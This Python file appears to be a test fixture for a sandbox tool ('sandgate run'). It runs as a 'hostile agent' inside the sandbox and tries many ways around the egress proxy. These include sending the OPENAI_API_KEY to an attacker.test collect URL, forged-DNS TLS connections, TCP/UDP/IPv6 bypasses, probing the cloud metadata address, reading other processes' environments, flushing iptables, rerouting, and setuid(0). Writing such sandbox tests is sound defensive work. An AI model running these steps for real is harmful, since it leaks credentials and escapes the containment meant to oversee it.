"""A hostile agent for `sandgate run` tests: runs INSIDE the sandbox as CMD (standard library only,
any Python 3), tries the legitimate call and every way around the proxy it can think of, and
prints one JSON object with what happened. The test decides what should have happened.

argv: BAIT_PORT RELAY_PORT V6_GATEWAY
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import sys
import urllib.error
import urllib.request

BAIT, RELAY, GW6 = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
out: dict[str, object] = {"uid": os.getuid(), "env": dict(os.environ)}


def gateway() -> str:
    """The sandbox's IPv4 default gateway (the host end of its link), from the kernel's table."""
    with open("/proc/net/route") as f:
        table = f.read().splitlines()[1:]
    for line in table:
        cols = line.split()
        if cols[1] == "00000000":
            return socket.inet_ntoa(bytes.fromhex(cols[2])[::-1])
    return ""


def https(url: str, auth: str | None = None) -> list[object]:
    req = urllib.request.Request(url)
    if auth:
        req.add_header("Authorization", f"Bearer {auth}")
    try:
        with urllib.request.urlopen(req, timeout=15) as resp:
            return [resp.status, resp.read().decode(errors="replace")]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode(errors="replace")]
    except OSError as e:
        return [0, f"{type(e).__name__}: {e}"]


def forged_dns(ip: str, sni: str, auth: str) -> list[object]:
    """Ignore /etc/hosts: connect to ``ip`` ourselves and speak TLS for ``sni``."""
    try:
        ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        with socket.create_connection((ip, 443), timeout=10) as raw, ctx.wrap_socket(raw, server_hostname=sni) as s:
            s.sendall(
                f"GET /v1/forged HTTP/1.1\r\nHost: {sni}\r\nAuthorization: Bearer {auth}\r\nConnection: close\r\n\r\n".encode()
            )
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        return [int(data.split(b" ", 2)[1]), data.decode(errors="replace")]
    except OSError as e:
        return [0, f"{type(e).__name__}: {e}"]


def tcp(host: str, port: int) -> str:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect((host, port))
            s.sendall(b"bypass\n")
        return "connected"
    except OSError as e:
        return f"{type(e).__name__}: {e}"


def udp(host: str, port: int) -> str:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"bypass", (host, port))
        return "sent"
    except OSError as e:
        return f"{type(e).__name__}: {e}"


def raw() -> str:
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        return "opened"
    except OSError as e:
        return f"{type(e).__name__}: {e}"


def become_root() -> str:
    try:
        os.setuid(0)
        return "became root"
    except OSError as e:
        return f"{type(e).__name__}: {e}"


def change_netfilter() -> list[str]:
    """C09: as CMD, flush the NAT table, replace the default route, bring the link down."""
    import subprocess

    results = []
    for cmd in (["iptables-legacy", "-t", "nat", "-F"], ["iptables", "-t", "nat", "-F"],
                ["ip", "route", "replace", "default", "via", "127.0.0.1"], ["ip", "link", "set", "lo", "down"]):  # fmt: skip
        try:
            res = subprocess.run(cmd, capture_output=True, text=True, timeout=10)
            results.append(f"{' '.join(cmd)}: exit {res.returncode}")
        except OSError as e:
            results.append(f"{' '.join(cmd)}: {type(e).__name__}")
    return results


def other_environments() -> str:
    """Every process environment this process can read (/proc/PID/environ), concatenated."""
    seen = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/environ", "rb") as f:
                    seen.append(f.read().decode("utf-8", "replace"))
            except OSError:
                pass
    return "\n".join(seen)


def resolve(name: str) -> list[str] | str:
    try:
        return sorted({str(a[4][0]) for a in socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)})
    except OSError as e:
        return f"{type(e).__name__}: {e}"


key = os.environ.get("OPENAI_API_KEY", "")
gw4, gw6 = gateway(), GW6
out["gateways"] = [gw4, gw6]
out["swap"] = https("https://api.openai.com/v1/sandbox-swap", key)
out["unbound"] = https("https://echo.example.com/collect", key)
out["other_host"] = https("https://attacker.test/collect", key)
out["resolve_allowed"] = resolve("api.openai.com")
out["resolve_other"] = resolve("attacker.test")
out["forged_dns_allowed"] = forged_dns("192.0.2.99", "api.openai.com", key)
out["forged_dns_other"] = forged_dns(gw4, "attacker.test", key)
out["tcp_other_port"] = tcp(gw4, BAIT)
out["tcp_relay"] = tcp(gw4, RELAY)
out["tcp_v6"] = tcp(gw6, BAIT)
out["udp"] = udp(gw4, BAIT)
out["udp_dns"] = udp(gw4, 53)
out["metadata"] = forged_dns("169.254.169.254", "metadata.example.com", "no-placeholder")  # the destination decides
out["raw"] = raw()
out["other_environments"] = other_environments()
out["netfilter"] = change_netfilter()
out["setuid0"] = become_root()
print(json.dumps(out), flush=True)
